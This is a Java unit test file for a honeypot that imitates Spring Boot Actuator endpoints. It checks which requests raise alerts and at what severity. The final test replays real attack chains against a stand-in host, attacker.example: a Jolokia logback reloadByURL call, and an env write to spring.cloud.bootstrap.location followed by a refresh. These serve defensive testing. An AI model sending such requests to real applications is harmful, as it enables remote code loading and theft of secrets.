package dev.moat.decoy;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import org.junit.jupiter.api.Test;

class SpringActuatorDecoyTest {

  private final DecoyRequests client = new DecoyRequests();
  private final SpringActuatorDecoy decoy = new SpringActuatorDecoy();

  @Test
  void linksAndHealthAreServedWithoutAnAlert() {
    assertThat(DecoyRequests.body(client.send(decoy, DecoyRequests.get("/actuator")))).contains("\"heapdump\":{\"href\"");
    assertThat(DecoyRequests.body(client.send(decoy, DecoyRequests.get("/actuator/health")))).contains("\"status\":\"UP\"");
    assertThat(DecoyRequests.body(client.send(decoy, DecoyRequests.get("/actuator/mappings")))).contains("dispatcherServlet");
    assertThat(client.alerts).isEmpty();
  }

  @Test
  void readingTheEnvironmentAlertsAndShowsFakeSecrets() {
    assertThat(DecoyRequests.body(client.send(decoy, DecoyRequests.get("/actuator/env")))).contains("spring.datasource.password");
    assertThat(client.alerts).singleElement().satisfies(a -> {
      assertThat(a.action()).isEqualTo("http.actuator_env");
      assertThat(a.severity()).isEqualTo(AlertSeverity.HIGH);
      assertThat(a.mitreTechnique()).isEqualTo("T1552");
    });
  }

  @Test
  void theHeapdumpIsATinyHprofHeaderAndAlerts() {
    HttpReply reply = client.send(decoy, DecoyRequests.get("/actuator/heapdump"));
    assertThat(reply.body()).hasSizeLessThan(64);
    assertThat(new String(Arrays.copyOf(reply.body(), 18), StandardCharsets.US_ASCII)).isEqualTo("JAVA PROFILE 1.0.2");
    assertThat(client.actions()).containsExactly("http.actuator_heapdump");
  }

  @Test
  void jolokiaAndTheEnvRefreshChainAlertCritical() {
    client.send(decoy, DecoyRequests.get("/jolokia/list"));
    client.send(decoy, DecoyRequests.get("/jolokia/exec/ch.qos.logback.classic:Name=default,Type=ch.qos.logback.classic.jmx.JMXConfigurator/reloadByURL/http:!/!/attacker.example!/x.xml"));
    client.send(decoy, DecoyRequests.post("/actuator/env", "{\"name\":\"spring.cloud.bootstrap.location\",\"value\":\"http://attacker.example/x.yml\"}",
        "Content-Type", "application/json"));
    client.send(decoy, DecoyRequests.post("/actuator/refresh", ""));
    assertThat(client.actions()).containsExactly("http.jolokia", "http.jolokia", "http.actuator_env_write", "http.actuator_env_write");
    assertThat(client.alerts).allSatisfy(a -> assertThat(a.severity()).isEqualTo(AlertSeverity.CRITICAL));
  }
}
